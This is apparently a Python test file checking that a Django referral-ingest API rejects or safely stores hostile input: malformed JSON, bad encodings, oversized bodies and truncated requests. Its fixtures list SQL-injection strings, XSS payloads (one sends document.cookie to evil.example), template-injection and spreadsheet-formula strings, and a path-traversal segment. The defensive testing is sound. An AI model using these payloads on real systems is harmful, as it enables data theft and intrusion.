"""Hostile input: every item gets a 4xx with a clear message or is stored verbatim, never a 500.

The same catalogue through gunicorn (chunked and lying Content-Length bodies, worker memory)
is `reliability/hostile.py`.
"""

import io
import json

import pytest
from gunicorn.http.errors import ChunkMissingTerminator, InvalidChunkSize, NoMoreData

from referrals.ingest.parse import BODY_TOO_LARGE, NOT_UTF8, TOO_DEEP
from referrals.ingest.schema import MSG_NUL, MSG_UNICODE
from referrals.models import (
    Connection,
    PushLog,
    ReferralRow,
    SitemapPage,
)
from tests.factories import (
    BrokenBody,
    event,
    post_raw,
    push,
    url,
)

pytestmark = pytest.mark.django_db

STRING_FIELDS = ("raw_referrer_value", "raw_page_value", "batch_id")

SQL_INJECTION = [
    "'; DROP TABLE referrals_referralrow; --",
    '" OR 1=1 --',
    "1' UNION SELECT token_hash FROM referrals_apikey --",
    "$$; DELETE FROM referrals_connection; $$",
    "\\'; COPY referrals_apikey TO '/tmp/x'; --",
    "%s %(x)s {0} {x!r}",
]
HTML_INJECTION = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.cookie)>',
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
    "javascript:alert(1)",
    "\u2028\u2029<!--",
    "{{ settings.SECRET_KEY }}{% debug %}",
    '=HYPERLINK("http://evil.example")',
]
HOSTILE_STRINGS = SQL_INJECTION + HTML_INJECTION


def assert_nothing_stored():
    assert not ReferralRow.objects.exists()
    assert not SitemapPage.objects.exists()


def assert_json_response(response):
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"


# --- structure ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "application/json"),
        (b'[{"sessions": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]", "application/json"),
        (b'{"x": ' + b"{" * 50_000 + b"}" * 50_000 + b"}", "application/x-ndjson"),
    ],
)
def test_deeply_nested_json_is_400(api_client, connection, body, content_type):
    response = post_raw(api_client, connection, body, content_type=content_type)
    assert response.status_code == 400
    assert TOO_DEEP in response.json()["detail"] or "malformed" in response.json()["detail"]
    assert_nothing_stored()


def test_moderately_nested_value_in_a_field_is_422(api_client, connection):
    nested = json.loads("[" * 500 + "]" * 500)
    response = push(api_client, connection, [event(sessions=nested)])
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", 0, "sessions"]
    assert_nothing_stored()


@pytest.mark.parametrize("content_type", ["application/json", "application/x-ndjson"])
@pytest.mark.parametrize(
    "bad", [b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"\x80abc"]
)
def test_invalid_utf8_is_400_with_the_byte_position(api_client, connection, bad, content_type):
    body = b'[{"date": "2026-05-20", "raw_referrer_value": "claude.ai", "raw_page_value": "/'
    body += bad + b'"}]'
    if content_type.endswith("ndjson"):
        body = body[1:-1]
    response = post_raw(api_client, connection, body, content_type=content_type)
    assert response.status_code == 400
    assert NOT_UTF8.split(" (")[0] in response.json()["detail"]
    assert_nothing_stored()


def test_raw_nul_byte_in_the_body_is_400(api_client, connection):
    body = json.dumps([event()]).encode().replace(b"/blog", b"/bl\x00og")
    response = post_raw(api_client, connection, body)
    assert response.status_code == 400
    assert "Malformed JSON" in response.json()["detail"]
    assert_nothing_stored()


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
@pytest.mark.parametrize("field", STRING_FIELDS)
@pytest.mark.parametrize(
    ("escape", "msg"),
    [("\\u0000", MSG_NUL), ("\\ud800", MSG_UNICODE), ("\\udfff", MSG_UNICODE)],
)
def test_nul_and_lone_surrogate_escapes_are_422(api_client, connection, field, escape, msg, fmt):
    """A lone surrogate decodes to a str no database can encode: it was a 500 before."""
    marker = "MARKER-VALUE"
    good = event(raw_page_value="/fine")
    bad = event(**{field: "chatgpt.com" + marker if field == "raw_referrer_value" else marker})
    if fmt == "json":
        body, content_type = json.dumps([good, bad]).encode(), "application/json"
    else:
        body = "\n".join(json.dumps(e) for e in [good, bad]).encode()
        content_type = "application/x-ndjson"
    body = body.replace(marker.encode(), escape.encode())
    response = post_raw(api_client, connection, body, content_type=content_type)
    assert response.status_code == 422
    assert response.json()["detail"] == [
        {
            "loc": ["body", 1, field],
            "msg": msg,
            "type": "string_nul" if msg == MSG_NUL else "string_unicode",
        }
    ]
    assert_nothing_stored()


def test_valid_surrogate_pairs_are_stored(api_client, connection):
    body = json.dumps([event(raw_page_value="/emoji-\U0001f600")]).encode()  # ensure_ascii
    assert b"\\ud83d\\ude00" in body
    assert post_raw(api_client, connection, body).status_code == 200
    assert ReferralRow.objects.get().raw_page_value == "/emoji-\U0001f600"


def test_lone_surrogate_in_an_unknown_field_name_is_a_warning(api_client, connection):
    body = json.dumps([event()]).encode().replace(b'"date"', b'"\\ud800": 1, "date"', 1)
    response = post_raw(api_client, connection, body)
    assert response.status_code == 200
    assert "\\ud800" in response.json()["warnings"][0]


# --- numbers ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["application/json", "application/x-ndjson"])
@pytest.mark.parametrize(
    ("literal", "expected"),
    [
        (b"1e400", 422),
        (b"-1e400", 422),
        (b"9" * 5000, 400),  # more digits than Python converts: a clear 400
        (b"-" + b"9" * 5000, 400),
        (b"1" + b"0" * 4000, 422),  # converts, but over the field's maximum
        (b"0." + b"0" * 5000 + b"1", 200),  # underflows to 0.0: a valid count and revenue
        (b"1e-400", 200),
    ],
)
@pytest.mark.parametrize("field", ["sessions", "purchase_revenue"])
def test_huge_numbers_are_4xx_never_500(api_client, connection, literal, expected, field, fmt):
    body = (
        b'{"date": "2026-05-20", "raw_referrer_value": "claude.ai", "raw_page_value": "/",'
        b' "' + field.encode() + b'": ' + literal + b"}"
    )
    if fmt == "application/json":
        body = b"[" + body + b"]"
    response = post_raw(api_client, connection, body, content_type=fmt)
    assert response.status_code == expected, response.content[:300]
    if expected == 400:
        assert "malformed json" in response.json()["detail"].lower()
        assert "digits" in response.json()["detail"]
    if expected == 422:
        assert response.json()["detail"][0]["loc"][2] == field
    if expected != 200:
        assert_nothing_stored()


# --- sizes --------------------------------------------------------------------------------


def test_10000_events_with_2048_character_pages_is_413(api_client, connection):
    events = [event(raw_page_value="/" + f"{i:05d}" + "p" * 2042) for i in range(10_000)]
    body = json.dumps(events).encode()
    assert len(body) > 5 * 1024 * 1024
    response = post_raw(api_client, connection, body)
    assert response.status_code == 413
    assert response.json()["detail"] == BODY_TOO_LARGE.format(limit=5 * 1024 * 1024)
    assert_nothing_stored()


def test_2048_character_pages_within_the_size_limit_are_stored(api_client, connection):
    events = [event(raw_page_value="/" + f"{i:05d}" + "p" * 2042) for i in range(2_000)]
    response = push(api_client, connection, events, fmt="ndjson")
    assert response.status_code == 200
    assert ReferralRow.objects.count() == 2_000


# --- injection strings: stored verbatim, rendered as JSON data ----------------------------


@pytest.mark.parametrize("hostile", HOSTILE_STRINGS)
def test_injection_strings_are_stored_verbatim_in_every_field(api_client, connection, hostile):
    events = [
        event(
            raw_referrer_value="https://chatgpt.com/?q=" + hostile,
            raw_page_value="/" + hostile,
            batch_id=hostile[:128],
        ),
        event(raw_referrer_value=hostile, raw_page_value="/rejected"),  # not an AI platform
    ]
    response = push(api_client, connection, events)
    assert response.status_code == 200, response.content
    assert_json_response(response)
    body = response.json()
    assert body["accepted"] == 1 and body["rejected"] == 1
    assert repr(hostile) in body["errors"][0]  # named in the rejection, as data
    row = ReferralRow.objects.get()
    assert row.raw_referrer_value.encode() == ("https://chatgpt.com/?q=" + hostile).encode()
    assert row.raw_page_value.encode() == ("/" + hostile).encode()
    assert row.batch_id.encode() == hostile[:128].encode()
    assert PushLog.objects.get().batch_id == hostile[:128]
    assert connection.dropped_referrers.get().raw_referrer_value == hostile
    # Every table is still there and intact.
    assert Connection.objects.filter(pk=connection.pk, status="active").exists()

    pages = api_client.get(
        f"/v1/{connection.brand_id}/sitemap/pages",
        {"start_date": "2026-05-01", "end_date": "2026-05-31"},
    )
    assert pages.status_code == 200
    assert_json_response(pages)
    (item,) = pages.json()["items"]
    assert item["url"] == "https://example.com/" + hostile
    # JSON escaping, not HTML: the raw bytes decode back to exactly the stored value.
    assert json.loads(pages.content)["items"][0]["url"].endswith(hostile)


@pytest.mark.parametrize("hostile", HOSTILE_STRINGS)
def test_injection_strings_in_query_parameters_are_data(api_client, connection, hostile):
    assert push(api_client, connection, [event()]).status_code == 200
    brand_id = connection.brand_id
    for path, params in [
        ("sitemap/pages", {"search": hostile}),
        ("sitemap/pages", {"path_prefix": "/" + hostile}),
        ("sitemap/pages", {"domain": hostile}),
        ("ai-referrals/connections", {"website": hostile}),
        ("ai-referrals/connections", {"status": hostile}),
        ("sitemap/export", {"search": hostile}),
    ]:
        response = api_client.get(f"/v1/{brand_id}/{path}", params)
        assert response.status_code in {200, 400, 404, 422}, (path, params, response.content[:300])
    assert ReferralRow.objects.count() == 1


@pytest.mark.parametrize("hostile", HOSTILE_STRINGS)
def test_injection_strings_as_a_website_are_400(api_client, brand, hostile):
    response = api_client.post(
        f"/v1/{brand.pk}/ai-referrals/connections",
        {"website": hostile, "provider": "adobe_analytics"},
        format="json",
    )
    assert response.status_code == 400
    assert "Website" in response.json()["detail"]
    assert not Connection.objects.exists()


def test_injection_strings_in_path_segments_are_404_or_422(api_client, connection):
    for segment in ["1%27%20OR%201%3D1", "%3Cscript%3E", "..%2F..%2Fetc%2Fpasswd"]:
        path = url(connection).replace(connection.pk, segment)
        response = api_client.generic("POST", path, b"[]", content_type="application/json")
        assert response.status_code == 404
        # Not an integer brand id: the published contract's 422, naming the parameter (a
        # segment with slashes routes nowhere: 404).
        response = api_client.get(f"/v1/{segment}/sitemap/pages")
        assert response.status_code == (404 if "%2F" in segment else 422)


@pytest.mark.parametrize("missing", [1, 50])
def test_a_body_shorter_than_its_content_length_is_400_and_stores_nothing(
    api_client, connection, missing
):
    """A client that closes its connection early sends fewer bytes than it declared: the
    batch is cut short (here at an event boundary, still valid JSON), so nothing of it is
    stored."""
    body = json.dumps([event()]).encode()
    response = post_raw(
        api_client,
        connection,
        body,
        CONTENT_LENGTH=str(len(body) + missing),
        **{"wsgi.input": io.BytesIO(body)},  # at its end, as a closed socket: a short read
    )
    assert response.status_code == 400
    assert "Content-Length" in response.json()["detail"]
    assert_nothing_stored()


@pytest.mark.parametrize(
    "error", [NoMoreData(b""), ChunkMissingTerminator(b"XX"), InvalidChunkSize(b"zz")]
)
def test_a_chunked_body_cut_short_or_malformed_is_400_and_stores_nothing(
    api_client, connection, error
):
    body = json.dumps([event()]).encode()
    response = post_raw(
        api_client,
        connection,
        b"",
        **{"wsgi.input": BrokenBody(body, error), "wsgi.input_terminated": True},
    )
    assert response.status_code == 400
    assert "could not be read" in response.json()["detail"]
    assert_nothing_stored()
